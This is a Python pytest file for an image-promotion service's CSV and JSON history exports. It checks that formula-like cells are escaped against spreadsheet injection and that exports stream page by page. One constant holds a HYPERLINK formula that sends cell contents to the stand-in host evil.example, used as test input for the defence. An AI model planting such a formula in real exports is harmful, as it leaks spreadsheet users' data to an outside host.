"""The history written out: harmless to spreadsheets, and piece by piece."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from image_promotion.ledger import chronicle
from image_promotion.ledger.chronicle import Filter, Page, Place
from image_promotion.ledger.ledger import Ledger
from image_promotion.web.pages import table_export
from image_promotion.web.pages.history import as_json
from image_promotion.web.pages.table_export import as_csv
from tests.unit.web.pages.conftest import Pages

POLICY = "website-to-qa"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"1.4")'


def _plan(pages: Pages, number: int) -> None:
    story = pages.story
    run = story.run()
    tags = {f"{each}-stable": f"sha256:{each:064x}" for each in range(number)}
    for tag, seen in story.scan_tags(run, tags).items():
        story.plan(run, seen, target_tag=tag, target_digest=tags[tag])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_takes_for_a_formula_is_marked_as_text(start: str) -> None:
    cell = table_export._cell(f"{start}1+1")

    assert cell == f"'{start}1+1"


@given(st.text())
def test_a_cell_begins_with_no_formula_and_says_what_it_said(text: str) -> None:
    cell = table_export._cell(text)

    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.endswith(text)


def test_an_error_of_a_registry_comes_into_a_spreadsheet_as_text(pages: Pages) -> None:
    _plan(pages, 1)
    pages.ledger.fail(1, error=FORMULA, at=pages.story.now(), run_key="failing")

    text = pages.seen_by(POLICY).get("/api/promotions.csv").text

    (row,) = csv.DictReader(io.StringIO(text))
    assert row["error"] == f"'{FORMULA}"
    assert row["source_tag"] == "0-stable"


@pytest.fixture
def reads(pages: Pages, monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Six promotions, of which the history reads two at a time; how often it did."""
    monkeypatch.setattr(chronicle, "MAX_PAGE", 2)
    _plan(pages, 6)
    found: list[int] = []
    page = chronicle.Chronicle.page

    def counted(
        self: chronicle.Chronicle, wanted: Filter, *, size: int = 50, after: Place | None = None
    ) -> Page:
        found.append(size)
        return page(self, wanted, size=size, after=after)

    monkeypatch.setattr(chronicle.Chronicle, "page", counted)
    return found


@pytest.mark.parametrize("write", [as_csv, as_json], ids=["CSV", "JSON"])
def test_the_history_is_written_as_it_is_read(
    pages: Pages, reads: list[int], write: Callable[[Ledger, Filter], Iterator[str]]
) -> None:
    pieces: Iterator[str] = write(pages.ledger, Filter())
    begin = "".join(next(pieces) for _ in range(2))

    assert len(reads) == 1
    assert "5-stable" in begin
    everything = begin + "".join(pieces)
    assert len(reads) == 3
    assert all(f"{number}-stable" in everything for number in range(6))
    if write is as_json:
        assert len(json.loads(everything)) == 6
